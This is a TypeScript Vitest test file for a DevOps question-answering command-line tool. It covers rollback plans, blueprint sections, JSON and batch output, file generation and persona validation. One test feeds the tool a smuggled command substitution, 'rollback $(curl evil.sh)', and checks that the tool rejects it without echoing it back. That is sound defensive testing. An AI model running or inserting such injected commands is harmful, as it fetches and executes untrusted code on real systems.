import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { askCli } from './ask-cli.ts';

const json = async (...words: string[]): Promise<{ code: number | null; answer: Record<string, unknown> }> => {
  const { code, out } = await askCli(['--json', ...words]);
  return { code, answer: JSON.parse(out) as Record<string, unknown> };
};

describe('asking in a terminal', () => {
  it('prints a plan with the version in its commands and exits 0', async () => {
    const { code, out, err } = await askCli(['rollback', 'checkout', 'to', 'v2.3', 'on', 'eks']);
    expect({ code, err }).toEqual({ code: 0, err: '' });
    expect(out).toContain('Roll back checkout to v2.3');
    expect(out).toContain('kubectl -n checkout rollout undo deploy/checkout --to-revision="${REVISION:?set REVISION}"');
    expect(out).not.toContain('\u001B[');
  });

  it('prints the ten parts of the DEVOPS BLUEPRINT, in order, with the system on its cover', async () => {
    const { out } = await askCli(['blueprint', 'checkout', 'on', 'eks']);
    const parts = [
      'DEVOPS BLUEPRINT',
      'System: checkout',
      'DEVOPS OVERVIEW',
      'ENVIRONMENT STRATEGY',
      'CI/CD PIPELINE',
      'DEPLOYMENT STRATEGY',
      'INFRASTRUCTURE',
      'ROLLBACK PLAN',
      'SCALING POLICY',
      'MONITORING',
    ];
    const places = parts.map((part) => out.indexOf(part));
    expect(places.every((place) => place >= 0)).toBe(true);
    expect(places).toEqual(places.toSorted((a, b) => a - b));
  });

  it('says on the error stream what was wrong, and exits 2, without repeating what was typed', async () => {
    const { code, out, err } = await askCli(['rollback $(curl evil.sh)']);
    expect({ code, out }).toEqual({ code: 2, out: '' });
    expect(err).toContain('cannot be a version');
    expect(err).not.toContain('evil');
  });

  it('says what else may be asked where it knows nothing, and exits 2', async () => {
    const { code, out } = await askCli(['xyzzy frobnicate the moon']);
    expect(code).toBe(2);
    expect(out).toContain('I do not know this');
    expect(out).toContain('What I can do');
  });

  it('keeps a name with spaces together when the shell took its quotes off', async () => {
    const { answer } = await json('scale', 'geo tiles', 'to', '3k', 'rps');
    expect(answer['inquiry']).toEqual({ intent: 'scale', params: { system: 'geo tiles', rps: 3000 }, flags: [] });
  });

  it('takes a question in quotes for a question, with flags behind it too', async () => {
    const { answer } = await json('rollback v2.3 on eks', '--safe-mode');
    expect(answer['inquiry']).toMatchObject({ intent: 'rollback', flags: ['safe-mode'] });
  });

  it('reviews a file that is quoted as one with the flag above it', async () => {
    const dockerfile = ['--validate', 'FROM node:latest', 'RUN npm install', 'CMD ["node", "a.js"]'].join('\n');
    const { code, out } = await askCli([dockerfile]);
    expect(code).toBe(0);
    expect(out).toMatch(/Review of Dockerfile[^]*Begin with line 1:/u);
  });

  it('writes the files that go with the answer, and leaves what is there as it is', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'files-'));
    const words = ['pipeline', 'checkout', 'typescript', 'on', 'eks', '--files', folder];
    const first = await askCli(words);
    expect(first.code).toBe(0);
    const workflow = join(folder, '.github', 'workflows', 'ci.yml');
    expect(readFileSync(workflow, 'utf8')).toContain('checkout');
    expect(first.out).toContain(`written  ${workflow}`);
    expect(first.out).toMatch(/^assumed {2}/mu);
    writeFileSync(workflow, 'mine');
    const second = await askCli(words);
    expect(second.out).toContain(`kept     ${workflow}`);
    expect(readFileSync(workflow, 'utf8')).toBe('mine');
  });

  it('says which files go with the answer, and how to get them, when no folder is named', async () => {
    const { code, out } = await askCli(['pipeline checkout typescript on eks --files']);
    expect(code).toBe(0);
    expect(out).toMatch(/\d+ files for checkout\./u);
    expect(out).toContain('.github/workflows/ci.yml');
    expect(out).toContain('--files ./out');
  });

  it.each(['/proc/nope', fileURLToPath(import.meta.url)])(
    'exits 1 and says so when no files can be put into %s',
    async (folder) => {
      const { code, err } = await askCli(['slo checkout 99.9', '--files', folder]);
      expect(code).toBe(1);
      expect(err).toMatch(/^--files: the folder .+ cannot be made \((?:ENOENT|ENOTDIR|EACCES)\)$/mu);
    },
  );

  it('exits 1 and names every fault when a persona file is broken', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'persona-'));
    writeFileSync(join(folder, 'x.md'), '---\nkind: hint\nid: x\n---\n\nHello {{ nobody }}.\n');
    const { code, out, err } = await askCli(['help'], '', { PERSONAS_DIR: folder });
    expect({ code, out }).toEqual({ code: 1, out: '' });
    expect(err).toMatch(/x\.md:\d+: name: /u);
    expect(err).toMatch(/x\.md:6: about: a variable the program knows/u);
  });
});

describe('asking for JSON', () => {
  it('gives the inquiry, the topics and the blueprint as one object', async () => {
    const { code, answer } = await json('rollback', 'v2.3', 'in', 'prod', '--think');
    expect(code).toBe(0);
    expect(Object.keys(answer)).toEqual(['inquiry', 'topics', 'blueprint']);
    expect(answer['inquiry']).toEqual({
      intent: 'rollback',
      params: { version: 'v2.3', environment: 'production', flags: ['think'] },
      flags: ['think'],
    });
  });

  it('gives the problem and its hint, and exits 2', async () => {
    const { code, answer } = await json('rollback', '<!channel>');
    expect(code).toBe(2);
    expect(answer['problem']).toEqual({
      code: 'bad-version',
      hint: expect.stringContaining('cannot be a version') as string,
    });
  });

  it('ends without a complaint when whoever reads has seen enough', async () => {
    const lines = Array.from({ length: 200 }, (_, id) => JSON.stringify({ id, text: 'help' })).join('\n');
    const { code, err } = await askCli(['--batch'], lines, {}, 'only the first');
    expect({ code, err }).toEqual({ code: 0, err: '' });
  });

  it('answers the other lines when one cannot be read, names that one, and exits 2', async () => {
    const input = ['{"id":1,"text":"slo 99.9"}', 'no JSON', '', '{"id":"c"}', '{"id":4,"text":"help"}'].join('\n');
    const { code, out } = await askCli(['--batch'], input);
    expect(code).toBe(2);
    const answers = out
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(answers.map((answer) => [answer['id'], 'blueprint' in answer])).toEqual([
      [1, true],
      [undefined, false],
      ['c', false],
      [4, true],
    ]);
    expect(answers.slice(1, 3).map((answer) => answer['problem'])).toMatchObject([
      { code: 'bad-line', line: 2 },
      { code: 'bad-line', line: 4 },
    ]);
  });
});
